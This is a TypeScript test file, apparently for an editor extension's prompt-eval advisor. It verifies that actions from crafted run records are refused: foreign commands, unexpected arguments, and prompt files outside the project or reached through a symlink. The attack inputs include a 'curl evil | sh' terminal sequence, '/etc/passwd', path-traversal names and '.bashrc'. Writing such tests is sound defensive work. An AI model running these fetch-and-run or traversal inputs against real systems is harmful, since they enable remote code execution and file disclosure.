// Attack: a run record shipped in a repository whose advice buttons name other commands, other arguments, or a
// prompt file outside the project. Run records are data: an action loaded from one is checked against what the
// advisor emits before it runs. (What the advisor itself emits passes: test/unit/analysis/advisor/actions.test.ts.)

import { test, after } from 'node:test';
import * as assert from 'node:assert/strict';
import * as path from 'node:path';
import { symlinkSync } from 'node:fs';
import { checkAdvisorAction } from '../../../src/core/analysis/advisor/commandArgs';
import { ADVISOR_COMMANDS, commandAction, retrievalVariantAction, RERUN } from '../../../src/core/analysis/advisor/commands';
import { tempWorkspace } from '../../fixtures/workspace';

const ws = tempWorkspace();
ws.write('package.json', '{}');
const prompt = ws.write('prompts/p.prompt.yml', 'messages: []\n');
const outside = tempWorkspace();
const outsidePrompt = outside.write('x.prompt.yml', 'messages: []\n');
after(() => {
  ws.dispose();
  outside.dispose();
});
const target = { runRoot: ws.root, promptFile: prompt };
const enc = (args: unknown[]) => encodeURIComponent(JSON.stringify(args));

test('attack: a crafted record naming an unknown or foreign command is refused, with the reason', () => {
  for (const action of ['command:workbench.action.terminal.sendSequence?' + enc([{ text: 'curl evil | sh\n' }]), 'command:promptLadder.deleteAllRuns', 'command:promptLadder.runEval.extra|Run']) {
    const r = checkAdvisorAction(action, target);
    assert.equal(r.ok, false, action);
    assert.match(!r.ok ? r.reason : '', /is not a command advice can run/);
  }
  const tip = checkAdvisorAction('Write a clearer instruction', target);
  assert.deepEqual(tip, { ok: false, reason: '"Write a clearer instruction" names no command' });
});

test('attack: known commands with arguments they do not take are refused', () => {
  const bad = [
    `command:${ADVISOR_COMMANDS.runEval}?${enc(['/etc/passwd'])}|Re-run`,
    `command:${ADVISOR_COMMANDS.addChainOfThought}?${enc([{ rerun: true, file: '../../x' }])}|CoT`,
    `command:${ADVISOR_COMMANDS.addRetrievalVariant}?${enc([{ variants: [{ name: '../../evil', retrieval: {} }] }])}|RAG`,
    `command:${ADVISOR_COMMANDS.addRetrievalVariant}?${enc([{ variants: [{ name: 'ok', retrieval: { documents: '/home/*' } }] }])}|RAG`,
    `command:${ADVISOR_COMMANDS.exportFineTune}?${enc([{ out: '/tmp/x' }])}|Export`,
  ];
  for (const action of bad) {
    const r = checkAdvisorAction(action, target);
    assert.equal(r.ok, false, action);
    assert.match(!r.ok ? r.reason : '', /arguments of '.*' in this run record are not ones it takes/);
  }
});

test('attack: a record whose prompt file resolves outside the project (path or symlink) or is not a prompt file is refused', () => {
  const action = commandAction(ADVISOR_COMMANDS.addChainOfThought, 'Add chain-of-thought variant', [RERUN]);
  const far = checkAdvisorAction(action, { runRoot: ws.root, promptFile: outsidePrompt });
  assert.match(!far.ok ? far.reason : '', /is outside the project of this run record/);
  symlinkSync(outsidePrompt, path.join(ws.root, 'prompts/linked.prompt.yml'));
  const linked = checkAdvisorAction(action, { runRoot: ws.root, promptFile: path.join(ws.root, 'prompts/linked.prompt.yml') });
  assert.match(!linked.ok ? linked.reason : '', /is outside the project/);
  const notPrompt = checkAdvisorAction(action, { runRoot: ws.root, promptFile: path.join(ws.root, '.bashrc') });
  assert.match(!notPrompt.ok ? notPrompt.reason : '', /is not a prompt file/);
});

test('what the advisor emits passes, with its arguments as given', () => {
  const cot = checkAdvisorAction(commandAction(ADVISOR_COMMANDS.addChainOfThought, 'Add chain-of-thought variant', [RERUN]), target);
  assert.deepEqual(cot, { ok: true, command: ADVISOR_COMMANDS.addChainOfThought, args: [{ rerun: true }], label: 'Add chain-of-thought variant' });
  const rag = checkAdvisorAction(retrievalVariantAction('Add a column with topK 6', { variants: [{ name: 'rag-top6', retrieval: { topK: 6 } }] }), target);
  assert.ok(rag.ok && rag.command === ADVISOR_COMMANDS.addRetrievalVariant);
  assert.deepEqual(checkAdvisorAction(commandAction(ADVISOR_COMMANDS.runEval, 'Re-run the eval'), target), { ok: true, command: ADVISOR_COMMANDS.runEval, args: [], label: 'Re-run the eval' });
});
